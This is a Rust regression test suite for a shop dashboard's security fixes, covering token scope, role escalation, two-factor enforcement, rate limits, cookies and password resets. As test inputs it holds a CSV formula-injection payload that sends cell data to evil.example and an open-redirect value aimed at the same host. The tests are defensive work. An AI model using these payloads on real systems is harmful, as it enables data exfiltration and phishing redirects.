//! The holes found by probing the running server from outside, each driven
//! exactly as the attacker did, so none of them opens again: bearer tokens
//! on pages, raising one's own rights, the two-factor requirement, formula
//! injection in CSV, JSON with trailing garbage, control characters in
//! `next`, cookie attributes behind https, and the sign-in limit that let
//! anyone lock a person out. (The push takeover is in `push.rs`.)

use crate::helpers::{LaxJar, PASSWORD, Spawn, TestApp, client, client_with, csrf_token};
use serde_json::{Value, json};
use std::sync::Arc;

#[tokio::test]
async fn a_bearer_token_is_ignored_outside_the_api() {
    let app = TestApp::spawn().await;
    app.set_up("owner@shop.test", "Atelier").await;
    let token = app.api_token("owner@shop.test");
    // The attacker holds the token and a CSRF cookie got by a GET, nothing more.
    let attacker = client();
    let login = app.page_as(&attacker, "/login").await;
    let csrf = csrf_token(&login);

    let res = attacker
        .get(app.url("/dashboard/account/2fa"))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 303, "a page with only a token is anonymous");
    assert!(res.headers()["location"].to_str().unwrap().starts_with("/login"));
    let res = attacker
        .post(app.url("/dashboard/account/tokens"))
        .bearer_auth(&token)
        .form(&[("csrf_token", csrf.as_str()), ("name", "forever"), ("days", "0")])
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 303);
    assert!(res.headers()["location"].to_str().unwrap().starts_with("/login"));
    let res = attacker
        .post(app.url("/dashboard/account/2fa/enable"))
        .bearer_auth(&token)
        .form(&[("csrf_token", csrf.as_str()), ("code", "123456")])
        .send()
        .await
        .unwrap();
    assert!(res.headers()["location"].to_str().unwrap().starts_with("/login"));
    assert_eq!(app.count("SELECT count(*) FROM api_tokens").await, 1, "no token minted");
    assert_eq!(
        app.count("SELECT count(*) FROM users WHERE totp_secret IS NOT NULL")
            .await,
        0,
        "no two-factor key was even made"
    );
    // On the API the token still works.
    let res = attacker
        .get(app.url("/api/v1/me"))
        .bearer_auth(&token)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
}

/// Atelier with a custom role "Team lead" granting only `team:manage`, held
/// by Lea; Vera is a viewer. Returns (lea's client, lea's id, vera's id, the role's id).
async fn shop_with_a_team_lead(app: &TestApp) -> (reqwest::Client, String, String, String) {
    app.set_up("owner@shop.test", "Atelier").await;
    let res = app
        .submit(
            "/dashboard/team/roles",
            "/dashboard/team/roles",
            &[("name", "Team lead")],
        )
        .await;
    assert_eq!(res.status(), 303);
    let role_id: String = app
        .db
        .read(|c| Ok(c.query_row("SELECT id FROM roles WHERE key = 'team-lead'", [], |r| r.get(0))?))
        .await
        .unwrap();
    let res = app
        .submit(
            "/dashboard/team/roles",
            &format!("/dashboard/team/roles/{role_id}"),
            &[("levels[team]", "manage")],
        )
        .await;
    assert_eq!(res.status(), 303);
    let lea = app.add_member("lea@shop.test", "Lea Lead", "team-lead").await;
    let vera = app.add_member("vera@shop.test", "Vera Viewer", "viewer").await;
    (app.signed_in("lea@shop.test").await, lea, vera, role_id)
}

#[tokio::test]
async fn team_manage_alone_cannot_raise_anyones_rights_beyond_its_own() {
    let app = TestApp::spawn().await;
    let (lea, lea_id, vera_id, lead_role) = shop_with_a_team_lead(&app).await;

    // Lea edits her own role to manage everything: refused, unchanged.
    let page = app.page_as(&lea, "/dashboard/team/roles").await;
    assert!(page.contains("Your role: another administrator or the owner changes it."));
    assert!(
        !page.contains(&format!("id=\"role-{lead_role}\"")),
        "her own role has no form"
    );
    let res = app
        .submit_as(
            &lea,
            "/dashboard/team/roles",
            &format!("/dashboard/team/roles/{lead_role}"),
            &[
                ("levels[team]", "manage"),
                ("levels[billing]", "manage"),
                ("levels[settings]", "manage"),
            ],
        )
        .await;
    assert_eq!(res.status(), 403);
    assert!(
        res.text()
            .await
            .unwrap()
            .contains("Nobody changes the permissions of a role they hold")
    );
    let grants: String = app
        .db
        .read(move |c| {
            Ok(
                c.query_row("SELECT permissions FROM roles WHERE id = ?1", [&lead_role], |r| {
                    r.get(0)
                })?,
            )
        })
        .await
        .unwrap();
    assert_eq!(grants, r#"{"team":"manage"}"#);

    // A new role starts with no more than its creator holds; raising it is refused.
    let res = app
        .submit_as(
            &lea,
            "/dashboard/team/roles",
            "/dashboard/team/roles",
            &[("name", "Helpers")],
        )
        .await;
    assert_eq!(res.status(), 303);
    let (helpers, start): (String, String) = app
        .db
        .read(|c| {
            Ok(
                c.query_row("SELECT id, permissions FROM roles WHERE key = 'helpers'", [], |r| {
                    Ok((r.get(0)?, r.get(1)?))
                })?,
            )
        })
        .await
        .unwrap();
    assert_eq!(start, r#"{"team":"view"}"#, "viewer's levels cut to what Lea holds");
    let res = app
        .submit_as(
            &lea,
            "/dashboard/team/roles",
            &format!("/dashboard/team/roles/{helpers}"),
            &[("levels[orders]", "manage")],
        )
        .await;
    assert_eq!(res.status(), 403);
    assert!(
        res.text().await.unwrap().contains("orders:manage"),
        "the refusal names the permission"
    );
    let res = app
        .submit_as(
            &lea,
            "/dashboard/team/roles",
            &format!("/dashboard/team/roles/{helpers}"),
            &[("levels[team]", "edit")],
        )
        .await;
    assert_eq!(res.status(), 303, "what Lea holds she may grant");

    // Over the API with her token: her own role, an admin, a role above hers.
    let token = app.api_token("lea@shop.test");
    let api = reqwest::Client::new();
    let patch = |id: &str, role: &str| {
        api.patch(app.url(&format!("/api/v1/members/{id}")))
            .bearer_auth(&token)
            .json(&json!({ "role": role }))
            .send()
    };
    let hal_id = app.add_member("hal@shop.test", "Hal Helper", "helpers").await;
    for (who, role, says) in [
        (&lea_id, "admin", "Nobody changes their own role"),
        (&hal_id, "admin", "Only the owner makes administrators"),
        (&hal_id, "member", "it holds catalog:edit"),
        (&vera_id, "helpers", "their role holds catalog:view"),
    ] {
        let res = patch(who, role).await.unwrap();
        assert_eq!(res.status(), 403, "{role}");
        let problem: Value = res.json().await.unwrap();
        assert!(problem["detail"].as_str().unwrap().contains(says), "{problem}");
    }
    let res = api
        .post(app.url("/api/v1/invitations"))
        .bearer_auth(&token)
        .json(&json!({ "email": "friend@shop.test", "role": "admin" }))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 403);
    assert_eq!(app.count("SELECT count(*) FROM invitations").await, 0);
    let roles: Vec<String> = app
        .db
        .read(|c| {
            let mut stmt = c.prepare(
                "SELECT r.key FROM memberships m JOIN roles r ON r.id = m.role_id JOIN users u ON u.id = m.user_id
                 WHERE u.email IN ('hal@shop.test', 'lea@shop.test', 'vera@shop.test') ORDER BY u.email",
            )?;
            let rows = stmt.query_map([], |r| r.get(0))?;
            Ok(rows.collect::<Result<_, _>>()?)
        })
        .await
        .unwrap();
    assert_eq!(roles, ["helpers", "team-lead", "viewer"], "nobody's role moved");

    // Each refused attempt is in the audit log with the rule it broke.
    let rules = |rows: Vec<Value>| {
        rows.iter()
            .map(|m| m["rule"].as_str().unwrap().to_string())
            .collect::<Vec<_>>()
    };
    assert_eq!(
        rules(app.audited("member.role_change_refused").await),
        [
            "team.refused.own_role",
            "team.refused.only_owner_admins",
            "team.refused.role_beyond_yours",
            "team.refused.member_beyond_yours"
        ]
    );
    assert_eq!(
        rules(app.audited("role.change_refused").await),
        ["team.refused.held_role", "team.refused.grant_beyond_yours"]
    );
    assert_eq!(
        rules(app.audited("invitation.refused").await),
        ["team.refused.only_owner_admins"]
    );
    let (_, audit) = app.page("/dashboard/team/audit?action=invitation.refused").await;
    assert!(
        audit.contains("was refused an invitation for") && audit.contains("Only the owner makes administrators."),
        "the refusal is told in words"
    );

    // The owner still makes admins.
    app.change_role(&vera_id, "admin").await;
}

#[tokio::test]
async fn until_they_turn_two_factor_on_members_of_an_org_that_requires_it_can_do_nothing_else() {
    let app = TestApp::spawn().await;
    app.set_up("owner@shop.test", "Atelier").await;
    app.add_member("max@shop.test", "Max", "admin").await;
    let old_token = app.api_token("max@shop.test");
    crate::two_factor::require_two_factor(&app).await;

    let max = app.signed_in("max@shop.test").await;
    let res = max.get(app.url("/dashboard/account")).send().await.unwrap();
    assert_eq!(res.status(), 303, "the account page is closed too");
    assert_eq!(res.headers()["location"], "/dashboard/account/2fa");
    let page = app.page_as(&max, "/dashboard/account/2fa").await;
    assert!(page.contains("Your organisation requires two-factor authentication"));
    let res = app
        .submit_as(
            &max,
            "/dashboard/account/2fa",
            "/dashboard/account/tokens",
            &[("name", "backdoor"), ("days", "0")],
        )
        .await;
    assert_eq!(res.headers()["location"], "/dashboard/account/2fa");
    assert_eq!(app.count("SELECT count(*) FROM api_tokens").await, 1, "no new token");

    let api = reqwest::Client::new();
    let res = api
        .get(app.url("/api/v1/members"))
        .bearer_auth(&old_token)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 403);
    assert_eq!(res.headers()["content-type"], "application/problem+json");
    let problem: Value = res.json().await.unwrap();
    assert!(
        problem["detail"]
            .as_str()
            .unwrap()
            .contains("requires two-factor authentication"),
        "{problem}"
    );
    let res = api
        .post(app.url("/api/v1/invitations"))
        .bearer_auth(&old_token)
        .json(&json!({ "email": "friend@shop.test" }))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 403);
    assert_eq!(app.count("SELECT count(*) FROM invitations").await, 0);
}

#[tokio::test]
async fn a_formula_in_a_user_agent_is_plain_text_in_the_audit_csv() {
    let app = TestApp::spawn().await;
    app.set_up("owner@shop.test", "Atelier").await;
    app.add_member("eve@shop.test", "Eve", "viewer").await;
    let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
    let eve = reqwest::Client::builder()
        .cookie_store(true)
        .user_agent(formula)
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let res = app
        .submit_as(
            &eve,
            "/login",
            "/login",
            &[("email", "eve@shop.test"), ("password", PASSWORD)],
        )
        .await;
    assert_eq!(res.status(), 303);

    let res = app.get("/dashboard/team/audit.csv").await;
    assert_eq!(res.status(), 200);
    let body = res.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let mut agents = vec![];
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "live formula: {cell}"
            );
        }
        agents.push(record[8].to_string());
    }
    assert!(agents.contains(&format!("'{formula}")), "kept, as text: {agents:?}");
}

#[tokio::test]
async fn json_with_anything_after_the_document_is_a_422_and_saves_nothing() {
    let app = TestApp::spawn().await;
    app.set_up("owner@shop.test", "Atelier").await;
    let vera = app.add_member("vera@shop.test", "Vera", "viewer").await;
    let token = app.api_token("owner@shop.test");
    let res = reqwest::Client::new()
        .patch(app.url(&format!("/api/v1/members/{vera}")))
        .bearer_auth(&token)
        .header("Content-Type", "application/json")
        .body(r#"{"role":"member"} trailing-garbage {"x":"#)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 422);
    let problem: Value = res.json().await.unwrap();
    assert!(
        problem["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("more after the JSON"),
        "{problem}"
    );
    let role: String = app
        .db
        .read(move |c| {
            Ok(c.query_row(
                "SELECT r.key FROM memberships m JOIN roles r ON r.id = m.role_id WHERE m.user_id = ?1",
                [&vera],
                |r| r.get(0),
            )?)
        })
        .await
        .unwrap();
    assert_eq!(role, "viewer");
}

#[tokio::test]
async fn a_control_character_in_next_falls_back_to_the_default_page() {
    let app = TestApp::spawn().await;
    app.set_up("owner@shop.test", "Atelier").await;
    let res = app.get("/login?next=/%09/evil.example").await;
    assert_eq!(res.status(), 303, "signed in, /login sends on");
    assert_eq!(res.headers()["location"], "/dashboard");

    let visitor = client();
    let res = app
        .submit_as(
            &visitor,
            "/login",
            "/login",
            &[
                ("email", "owner@shop.test"),
                ("password", PASSWORD),
                ("next", "/\t/evil.example"),
            ],
        )
        .await;
    assert_eq!(res.status(), 303);
    assert_eq!(res.headers()["location"], "/dashboard");
    let res = app
        .submit_as(
            &visitor,
            "/",
            "/language",
            &[("lang", "fr"), ("next", "/\t/evil.example")],
        )
        .await;
    assert_eq!(res.status(), 303);
    assert_eq!(res.headers()["location"], "/");
}

#[tokio::test]
async fn behind_https_every_cookie_is_secure_http_only_and_same_site() {
    let mut app = TestApp::spawn_with(Spawn {
        pairs: vec![("base_url".into(), "https://shop.example".into())],
        ..Spawn::default()
    })
    .await;
    let jar = Arc::new(LaxJar::default());
    app.client = client_with(jar.clone());
    app.set_up("owner@shop.test", "Atelier").await;
    let (_, recovery) = crate::two_factor::turn_on(&app).await;
    let res = app.submit("/dashboard", "/logout", &[]).await;
    assert_eq!(res.status(), 303);
    let csrf = crate::two_factor::password_step(&app, &app.client).await;
    let res = app
        .client
        .post(app.url("/login/2fa"))
        .form(&[("csrf_token", csrf.as_str()), ("code", recovery[0].as_str())])
        .send()
        .await
        .unwrap();
    assert_eq!(res.headers()["location"], "/dashboard");
    let res = app.submit("/", "/language", &[("lang", "fr"), ("next", "/")]).await;
    assert_eq!(res.status(), 303);

    let seen = jar.seen.lock().unwrap().clone();
    let names: std::collections::BTreeSet<String> =
        seen.iter().map(|c| c.split('=').next().unwrap().to_string()).collect();
    for cookie in &seen {
        let attrs: Vec<String> = cookie
            .split(';')
            .skip(1)
            .map(|a| a.trim().to_ascii_lowercase())
            .collect();
        assert!(attrs.contains(&"secure".into()), "Secure: {cookie}");
        assert!(attrs.contains(&"httponly".into()), "HttpOnly: {cookie}");
        assert!(
            attrs.contains(&"samesite=lax".into()) || attrs.contains(&"samesite=strict".into()),
            "SameSite: {cookie}"
        );
    }
    for name in [
        "luneo_session",
        "luneo_csrf",
        "luneo_mfa",
        "luneo_lang",
        "luneo_known",
        "_flash",
    ] {
        assert!(names.contains(name), "{name} was set: {names:?}");
    }
}

#[tokio::test]
async fn failed_guesses_from_elsewhere_do_not_lock_out_a_browser_that_signed_in_before() {
    let app = TestApp::spawn().await;
    app.set_up("owner@shop.test", "Atelier").await;
    // The owner's browser has signed in before (set_up, then a sign-in).
    let res = app.submit("/dashboard", "/logout", &[]).await;
    assert_eq!(res.status(), 303);
    assert_eq!(app.sign_in("owner@shop.test", PASSWORD).await.status(), 303);
    let res = app.submit("/dashboard", "/logout", &[]).await;
    assert_eq!(res.status(), 303);

    // Someone else uses up the account's allowance.
    let guesser = client();
    let mut refused = false;
    for _ in 0..8 {
        let res = app
            .submit_as(
                &guesser,
                "/login",
                "/login",
                &[("email", "owner@shop.test"), ("password", "wrong-guess-123456")],
            )
            .await;
        refused |= res.status() == 429;
    }
    assert!(refused, "the guesser is limited");
    // A new browser with the right password waits too...
    let newcomer = client();
    let res = app
        .submit_as(
            &newcomer,
            "/login",
            "/login",
            &[("email", "owner@shop.test"), ("password", PASSWORD)],
        )
        .await;
    assert_eq!(res.status(), 429);
    // ...but the owner's own browser signs in at once.
    let res = app.sign_in("owner@shop.test", PASSWORD).await;
    assert_eq!(res.status(), 303);
    assert_eq!(res.headers()["location"], "/dashboard");
}

#[tokio::test]
async fn a_password_reset_revokes_the_api_tokens_and_says_so() {
    let app = TestApp::spawn().await;
    app.set_up("owner@shop.test", "Atelier").await;
    let token = app.api_token("owner@shop.test");
    let api = reqwest::Client::new();
    let me = |t: String| api.get(app.url("/api/v1/me")).bearer_auth(t).send();
    assert_eq!(me(token.clone()).await.unwrap().status(), 200);

    let reset = app
        .db
        .write(|tx| {
            let user: String = tx.query_row("SELECT id FROM users", [], |r| r.get(0))?;
            luneo::auth::mail_tokens::issue(tx, &user, luneo::auth::mail_tokens::Purpose::Reset, crate::helpers::T0)
        })
        .await
        .unwrap();
    let path = format!("/password/reset/{reset}");
    let (_, page) = app.page(&path).await;
    assert!(page.contains("API tokens revoked"), "the form says so before");
    let res = app
        .submit(&path, &path, &[("password", "a-brand-new-passphrase-42")])
        .await;
    assert_eq!(res.status(), 303);
    assert_eq!(me(token).await.unwrap().status(), 401, "the old token is dead");
    assert_eq!(app.count("SELECT count(*) FROM api_tokens").await, 0);
    let meta = app.audited("user.password_reset").await;
    assert_eq!(meta[0]["tokens_revoked"], 1);
    let told = app
        .count(
        "SELECT count(*) FROM outbox WHERE kind = 'mail' AND payload LIKE '%password was reset%API tokens revoked%'",
    )
    .await;
    assert_eq!(told, 1, "the mail says so");
}

#[tokio::test]
async fn a_french_reader_gets_the_specific_refusal_in_french_on_pages_and_in_problems() {
    let app = TestApp::spawn().await;
    let (lea, lea_id, _, lead_role) = shop_with_a_team_lead(&app).await;
    let res = app
        .submit_as(
            &lea,
            "/dashboard/team/roles",
            "/language",
            &[("lang", "fr"), ("next", "/")],
        )
        .await;
    assert_eq!(res.status(), 303);
    let res = app
        .submit_as(
            &lea,
            "/dashboard/team/roles",
            &format!("/dashboard/team/roles/{lead_role}"),
            &[("levels[billing]", "manage")],
        )
        .await;
    assert_eq!(res.status(), 403);
    let html = res.text().await.unwrap();
    assert!(
        html.contains("Personne ne change les permissions d’un rôle qu’il détient"),
        "{html}"
    );

    let res = reqwest::Client::new()
        .patch(app.url(&format!("/api/v1/members/{lea_id}")))
        .bearer_auth(app.api_token("lea@shop.test"))
        .header("Accept-Language", "fr-FR, fr;q=0.9")
        .json(&json!({ "role": "admin" }))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 403);
    let problem: Value = res.json().await.unwrap();
    assert_eq!(
        problem["detail"],
        "Personne ne change son propre rôle : demandez à un autre administrateur ou au propriétaire."
    );
}
